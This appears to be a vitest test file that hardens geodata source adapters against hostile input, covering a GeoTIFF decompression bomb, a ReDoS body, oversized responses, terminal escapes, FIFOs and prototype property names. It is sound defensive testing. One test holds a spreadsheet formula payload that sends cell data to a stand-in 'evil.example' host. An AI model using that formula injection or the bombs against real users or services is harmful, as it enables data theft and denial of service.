/**
 * Hostile and huge input against the source adapters (issue #13): every finding of the attack
 * session as a test. A bomb, a ReDoS body, a 300 MB answer, terminal escapes, formula values,
 * devices and FIFOs, property names of Object.prototype: each gives a typed error (or a safe value)
 * naming the limit, and the next query works.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { applyWidgetTexts, registerMessages } from '../../widgets/shared/lang.js';
import { factsFromProperties, describeValue, coerceFact } from '../../src/sources/facts.js';
import { GeoTiffSource, DEFAULT_MAX_DECODED_BYTES } from '../../src/sources/geotiff.js';
import {
  DEFAULT_MAX_RESPONSE_BYTES,
  SourceRequestError,
  exceptionText,
  type FetchLike,
  fetchWithPolicy,
  readJson,
  readTextLimited,
  requestJson,
} from '../../src/sources/http.js';
import { loadBytes, loadSourcesFile, loadText } from '../../src/sources/node.js';
import { WmsSource } from '../../src/sources/wms.js';
import { WfsSource } from '../../src/sources/wfs.js';
import {
  MAX_FEATURES_PER_ANSWER,
  MAX_VERTICES_PER_ANSWER,
  parseFeatureCollection,
} from '../../src/sources/features.js';
import { OgcApiFeaturesSource } from '../../src/sources/ogc-api-features.js';
import { ArcGisRestSource } from '../../src/sources/arcgis-rest.js';
import { createLocatieserverClient } from '../../src/sources/locatieserver.js';
import { projectRoot } from '../helpers/shared.js';
import { NaError, type Location } from '../../src/core/types.js';
import { underflowingNumbers } from '../../src/core/numbers.js';
import { bombTiff, redosBody } from '../helpers/hostile.js';
import { useFaultServer } from '../helpers/use-fault-server.js';

const AT: Location = { x: 155000, y: 463000, crs: 'EPSG:28992' };
const server = useFaultServer();

async function rejection(p: Promise<unknown>): Promise<SourceRequestError> {
  try {
    await p;
  } catch (e) {
    return e as SourceRequestError;
  }
  throw new Error('expected a rejection');
}

function wms(path: string, extra: Partial<ConstructorParameters<typeof WmsSource>[0]> = {}) {
  return new WmsSource({
    id: 'bodem',
    title: 'BRO Bodemkaart',
    url: server.url(path),
    layers: 'soilarea',
    properties: { soilCode: 'first_soilcode', zone: 'code' },
    timeoutMs: 20_000,
    retries: 0,
    ...extra,
  });
}

describe('finding 4: the size of a remote answer is bounded (streamed read, too-large)', () => {
  it('a 300 MB answer stops at maxResponseBytes and names the limit', async () => {
    const e = await rejection(requestJson(server.url('/huge?mb=300'), { timeoutMs: 20_000 }));
    expect(e).toBeInstanceOf(SourceRequestError);
    expect(e.code).toBe('too-large');
    expect(e.message).toContain(`maxResponseBytes = ${DEFAULT_MAX_RESPONSE_BYTES}`);
    expect(e.userMessage.nl).toMatch(/grens \(maxResponseBytes = 16 MiB\)/);
    expect(e.userMessage.en).toMatch(/limit \(maxResponseBytes = 16 MiB\)/);
    // The server saw the client stop: far less than 300 MB went out.
    expect(await server.hugeSent()).toBeLessThan(64 * 1024 * 1024);
  });

  it('a declared Content-Length over the limit is refused before reading', async () => {
    const e = await rejection(requestJson(server.url('/huge-declared'), { timeoutMs: 20_000 }));
    expect(e.code).toBe('too-large');
    expect(e.message).toMatch(/Content-Length 314572800/);
  });

  it('the limit is per source and configurable; the source reports it and the next query works', async () => {
    const small = wms('/huge?mb=2', { maxResponseBytes: 64 * 1024 });
    const r = await small.query(AT);
    expect(r.status).toBe('error');
    expect(r.code).toBe('too-large');
    expect(r.message).toContain('maxResponseBytes = 65536');
    const ok = await wms('/formula').query(AT);
    expect(ok.status).toBe('ok');
  });
});

describe('finding 4 (files fetched whole, as the widget loads GeoJSON): bounded too', () => {
  it('readTextLimited stops a 300 MB file at the limit and reads a small one', async () => {
    const e = await rejection(
      readTextLimited(await fetch(server.url('/huge?mb=300')), 1024 * 1024, 'groot.geojson'),
    );
    expect((e as unknown as NaError).code).toBe('too-large');
    expect(e.message).toMatch(/^groot\.geojson: .*limit of 1 MiB \(maxFileBytes\)/);
    expect(await server.hugeSent()).toBeLessThan(64 * 1024 * 1024);
    const ok = await readTextLimited(await fetch(server.url('/formula')));
    expect(JSON.parse(ok)).toMatchObject({ type: 'FeatureCollection' });
  });
});

describe('finding 2: exception bodies are parsed in linear time on a bounded prefix', () => {
  it('a 900 kB report of unclosed <ows:Exception openings is classified quickly', async () => {
    const body = redosBody(900);
    expect(body.length).toBeGreaterThan(900_000);
    // Work is bounded by the prefix: the text is computed from at most 16 kB (ERROR_BODY_PREFIX_CHARS).
    const text = exceptionText(body);
    expect(text.length).toBeLessThanOrEqual(300);
    const r = await wms('/redos').query(AT);
    expect(r.status).toBe('error');
    expect(r.code).toBe('ogc-exception');
  });

  it('no regex with a lazy any-character run is left in the request layer', async () => {
    const { readFileSync } = await import('node:fs');
    const src = readFileSync(new URL('../../src/sources/http.ts', import.meta.url), 'utf8');
    // The patterns that made the parse quadratic: `[\s\S]*?` between an opening and a closing tag.
    expect(src).not.toMatch(/\[\\s\\S\]\*\?/);
  });
});

describe('finding 10: terminal escapes are stripped and long messages cut with "…"', () => {
  it('an exception with ANSI escapes and 100 kB of text', async () => {
    const r = await wms('/ansi').query(AT);
    expect(r.status).toBe('error');
    expect(r.code).toBe('ogc-exception');
    for (const text of [r.message ?? '', r.userMessage?.nl ?? '', r.userMessage?.en ?? '']) {
      // eslint-disable-next-line no-control-regex -- the test looks for control characters
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      expect(text.length).toBeLessThan(800);
    }
    expect(r.message).toContain('…');
    expect(r.message).toContain('Evil: PWNED');
  });
});

describe('finding 1: a GeoTIFF decompression bomb is refused before decoding', () => {
  let bomb: ArrayBuffer;
  beforeAll(async () => {
    const b = await bombTiff(8192);
    bomb = b.buffer.slice(b.byteOffset, b.byteOffset + b.byteLength) as ArrayBuffer;
  });

  it('8192² Float32 in one DEFLATE strip (256 MiB decoded from ~1 MiB): too-large, local', async () => {
    expect(bomb.byteLength).toBeLessThan(2 * 1024 * 1024);
    const src = new GeoTiffSource({ id: 'ahn', data: bomb, bands: { elevation: 1 } });
    const info = await src.info();
    expect([info.width, info.height]).toEqual([8192, 8192]);
    const r = await src.query({ x: 150010, y: 459990, crs: 'EPSG:28992' });
    expect(r.status).toBe('error');
    expect(r.code).toBe('too-large');
    expect(r.message).toContain(`maxDecodedBytes = ${DEFAULT_MAX_DECODED_BYTES}`);
    expect(r.userMessage?.nl).toMatch(/Cloud Optimized GeoTIFF/);
  });

  it('the same bomb over HTTP range requests: too-large', async () => {
    const src = new GeoTiffSource({
      id: 'ahn',
      url: server.url('/bomb.tif'),
      bands: { elevation: 1 },
      timeoutMs: 20_000,
    });
    const r = await src.query({ x: 150010, y: 459990, crs: 'EPSG:28992' });
    expect(r.code).toBe('too-large');
  });

  it('a raised limit is honoured (the block is then decoded and read)', async () => {
    const small = await bombTiff(512); // 1 MiB decoded
    const data = small.buffer.slice(small.byteOffset, small.byteOffset + small.byteLength);
    const refused = new GeoTiffSource({
      id: 'ahn',
      data: data as ArrayBuffer,
      bands: { elevation: 1 },
      maxDecodedBytes: 512 * 1024,
    });
    expect((await refused.query({ x: 150010, y: 459990, crs: 'EPSG:28992' })).code).toBe(
      'too-large',
    );
    const allowed = new GeoTiffSource({
      id: 'ahn',
      data: data as ArrayBuffer,
      bands: { elevation: 1 },
    });
    const r = await allowed.query({ x: 150010, y: 459990, crs: 'EPSG:28992' });
    expect(r.status).toBe('ok');
    expect(r.facts[0]).toMatchObject({ name: 'elevation', status: 'ok', value: 0 });
  });
});

describe('finding 7: devices and FIFOs are refused (regular files only)', () => {
  it('/dev/zero as a GeoTIFF path or data file is not read', async () => {
    const e1 = await rejection(loadBytes('/dev/zero'));
    expect((e1 as unknown as NaError).code).toBe('not-a-file');
    expect(e1.message).toMatch(/not a regular file/);
    const e2 = await rejection(loadText('/dev/zero'));
    expect((e2 as unknown as NaError).code).toBe('not-a-file');
  });

  it('a FIFO without a writer does not hang, and a directory is refused', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'na-fifo-'));
    const fifo = join(dir, 'pipe.geojson');
    execFileSync('mkfifo', [fifo]);
    const e = await rejection(loadText(fifo));
    expect((e as unknown as NaError).code).toBe('not-a-file');
    const d = await rejection(loadText(dir));
    expect((d as unknown as NaError).code).toBe('not-a-file');
    const sources = join(dir, 'sources.json');
    writeFileSync(
      sources,
      JSON.stringify({
        sources: [{ id: 'x', type: 'geojson', path: 'pipe.geojson', properties: { zone: 'z' } }],
      }),
    );
    const s = await rejection(loadSourcesFile(sources));
    expect(s.message).toMatch(/not a regular file/);
  });
});

describe('finding 9: property names such as constructor or __proto__ are own-property reads', () => {
  const prov = { sourceId: 's', title: 'S' };
  it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'])(
    'a mapping to "%s" on a feature without it: a clear fact, no TypeError',
    (name) => {
      const facts = factsFromProperties({ other: 1 }, { zone: name }, prov);
      expect(facts).toHaveLength(1);
      expect(facts[0]).toMatchObject({ name: 'zone', status: 'no-data', reason: 'no-value' });
      const strict = factsFromProperties({ other: 1 }, { zone: name }, prov, { missing: 'error' });
      expect(strict[0]?.status).toBe('error');
      expect((strict[0] as { message: string }).message).toMatch(/is not in the answer/);
    },
  );

  it('describeValue never throws, whatever the value', () => {
    for (const v of [() => 1, Symbol('s'), 10n, Object.create(null), Infinity, undefined, {}]) {
      expect(typeof describeValue(v)).toBe('string');
    }
    expect(coerceFact('zone', () => 1, 'constructor')).toMatchObject({
      ok: false,
      status: 'error',
    });
  });

  it('applyWidgetTexts refuses __proto__, constructor and toString as message keys', () => {
    registerMessages('hostile-test', { hello: { nl: 'hallo', en: 'hello' } });
    for (const key of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) {
      const data = JSON.parse(`{"hostile-test": {"${key}": {"fy": "x"}}}`) as unknown;
      expect(() => applyWidgetTexts(data, 'teksten.json')).toThrow(/has no message/);
    }
    expect(({} as Record<string, unknown>).fy).toBeUndefined();
  });
});

describe('finding 11 (sources): strict decimal numbers and plausible ranges', () => {
  it.each([
    ['elevation', '0x2E64E', /not a decimal number/],
    ['elevation', '1e400', /too large/],
    ['elevation', '1e-400', /too small/],
    ['elevation', 1e300, /plausible range -100 to 1000 m \+NAP/],
    ['floodDepth', -5, /plausible range 0 to 30 m/],
    ['heat', -1e308, /plausible range -50 to 80 °C PET/],
  ] as const)('%s = %s is an error naming the range', (fact, raw, why) => {
    const c = coerceFact(fact, raw, 'prop');
    expect(c.ok).toBe(false);
    if (!c.ok) expect(c.message).toMatch(why);
  });

  it('decimal numbers in range are accepted', () => {
    expect(coerceFact('elevation', '12.5', 'p')).toEqual({ ok: true, value: 12.5 });
    expect(coerceFact('elevation', '-6.7', 'p')).toEqual({ ok: true, value: -6.7 });
    expect(coerceFact('heat', 41.5, 'p')).toEqual({ ok: true, value: 41.5 });
  });
});

describe('finding 3 (sources): formula values pass as data, and are neutralised on export', () => {
  it('a service value "=HYPERLINK(…)" is kept as text in the report', async () => {
    const r = await wms('/formula').query(AT);
    expect(r.status).toBe('ok');
    expect(r.facts.find((f) => f.name === 'zone')).toMatchObject({
      status: 'ok',
      value: '=HYPERLINK("http://evil.example/?d="&A1,"Dz1")',
    });
  });
});

describe('request layer: readJson on a response made elsewhere keeps the default limit', () => {
  it('a Response over the limit is too-large', async () => {
    const big = new Response(new Uint8Array(DEFAULT_MAX_RESPONSE_BYTES + 10), {
      headers: { 'content-type': 'application/json' },
    });
    const e = await rejection(readJson(big));
    expect(e.code).toBe('too-large');
    const res = await fetchWithPolicy(server.url('/formula'));
    expect(await readJson(res)).toMatchObject({ type: 'FeatureCollection' });
  });
});

describe('finding 2: every adapter that shares the exception parser survives the ReDoS body', () => {
  // The real fault server's 900 kB body (HTTP 400, application/xml), whatever URL the adapter builds.
  const toRedos: FetchLike = (_input, init) => fetch(server.url('/redos'), init);
  const common = { properties: { zone: 'zone' }, retries: 0, timeoutMs: 20_000, fetch: toRedos };
  it.each([
    [
      'WFS',
      () => new WfsSource({ id: 'wfs', url: 'http://wfs.invalid/', typeName: 'l', ...common }),
    ],
    [
      'OGC API Features',
      () =>
        new OgcApiFeaturesSource({
          id: 'ogc',
          url: 'http://ogc.invalid/',
          collection: 'l',
          ...common,
        }),
    ],
    [
      'ArcGIS REST',
      () =>
        new ArcGisRestSource({ id: 'arcgis', url: 'http://arcgis.invalid/0', ...common } as never),
    ],
  ] as const)('%s: the query ends as ogc-exception with a short text', async (_kind, make) => {
    const r = await make().query(AT);
    expect(r.status).toBe('error');
    expect(r.code).toBe('ogc-exception');
    expect((r.message ?? '').length).toBeLessThan(800);
  });

  it('address search (Locatieserver): suggest rejects with ogc-exception', async () => {
    const ls = createLocatieserverClient({ retries: 0, timeoutMs: 20_000, fetch: toRedos });
    const e = await rejection(ls.suggest('Westeringlaan'));
    expect(e).toBeInstanceOf(SourceRequestError);
    expect(e.code).toBe('ogc-exception');
    expect(e.message.length).toBeLessThan(800);
  });
});

describe('finding 2: the lint rule flags a new lazy regex on service text', () => {
  it.each([
    'src/sources/new-adapter.ts',
    'src/core/new.ts',
    'src/cli/new.ts',
    'src/map/new.ts',
    'widgets/address-search/new.ts',
  ])('in %s: [\\s\\S]*? and .*? are errors; a bounded pattern is not', async (filePath) => {
    const { ESLint } = await import('eslint');
    const eslint = new ESLint({ cwd: projectRoot });
    const lint = async (code: string) =>
      (await eslint.lintText(code, { filePath: join(projectRoot, filePath) }))[0]!.messages
        .filter((m) => m.ruleId === 'no-restricted-syntax')
        .map((m) => m.message);
    const flagged = await lint(
      'export const a = (body: string) => /<ows:Exception[^>]*>([\\s\\S]*?)<\\/ows:Exception>/.exec(body);\n' +
        'export const b = (body: string) => /<title>(.*?)<\\/title>/.exec(body);\n',
    );
    expect(flagged).toHaveLength(2);
    expect(flagged[0]).toMatch(/No lazy unbounded regex runs/);
    expect(
      await lint('export const c = (body: string) => /<title>([^<]{0,200})/.exec(body);\n'),
    ).toEqual([]);
  });
});

describe('budget: features and polygon vertices per answer (too-complex, naming the limit)', () => {
  const ring = (x: number): number[][] => [
    [x, 0],
    [x + 1, 0],
    [x + 1, 1],
    [x, 0],
  ];
  const feature = (coordinates: unknown) => ({
    type: 'Feature',
    properties: { zone: 'Dz1' },
    geometry: { type: 'Polygon', coordinates },
  });

  it(`more than ${MAX_FEATURES_PER_ANSWER} features: maxFeatures; exactly that many are read`, () => {
    const many = (n: number) => ({
      type: 'FeatureCollection',
      features: Array.from({ length: n }, (_, i) => feature([ring(i)])),
    });
    const e = (() => {
      try {
        parseFeatureCollection(many(MAX_FEATURES_PER_ANSWER + 1), { name: 'wfs' });
      } catch (err) {
        return err as SourceRequestError;
      }
      throw new Error('expected too-complex');
    })();
    expect(e.code).toBe('too-complex');
    expect(e.message).toMatch(/maxFeatures/);
    expect(e.message).toContain(String(MAX_FEATURES_PER_ANSWER));
    expect(
      parseFeatureCollection(many(MAX_FEATURES_PER_ANSWER), { name: 'wfs' }).features,
    ).toHaveLength(MAX_FEATURES_PER_ANSWER);
  });

  it(`more than ${MAX_VERTICES_PER_ANSWER} vertices: maxVertices`, () => {
    // One ring of 2,000,001 vertices (the same position object, so the test stays small in memory).
    const p = [150000, 460000];
    const big = Array.from({ length: MAX_VERTICES_PER_ANSWER + 1 }, () => p);
    const e = (() => {
      try {
        parseFeatureCollection(
          { type: 'FeatureCollection', features: [feature([big])] },
          { name: 'wfs' },
        );
      } catch (err) {
        return err as SourceRequestError;
      }
      throw new Error('expected too-complex');
    })();
    expect(e.code).toBe('too-complex');
    expect(e.message).toMatch(/maxVertices/);
    expect(e.message).toContain(String(MAX_VERTICES_PER_ANSWER));
  });
});

describe('finding 11: numbers that JSON.parse turns into 0 are found in the text', () => {
  it('underflowingNumbers names the field; 0, 0.0, 0e5, strings and small but real numbers are not flagged', () => {
    expect(underflowingNumbers('{"zone":"1e-400","heat":1e-400, "elevation" : -2.5E-999}')).toEqual(
      [
        { key: 'heat', raw: '1e-400' },
        { key: 'elevation', raw: '-2.5E-999' },
      ],
    );
    expect(
      underflowingNumbers('{"a":0,"b":0.0,"c":0e5,"d":-0,"e":1e-300,"f":"\\"1e-400"}'),
    ).toEqual([]);
  });
});
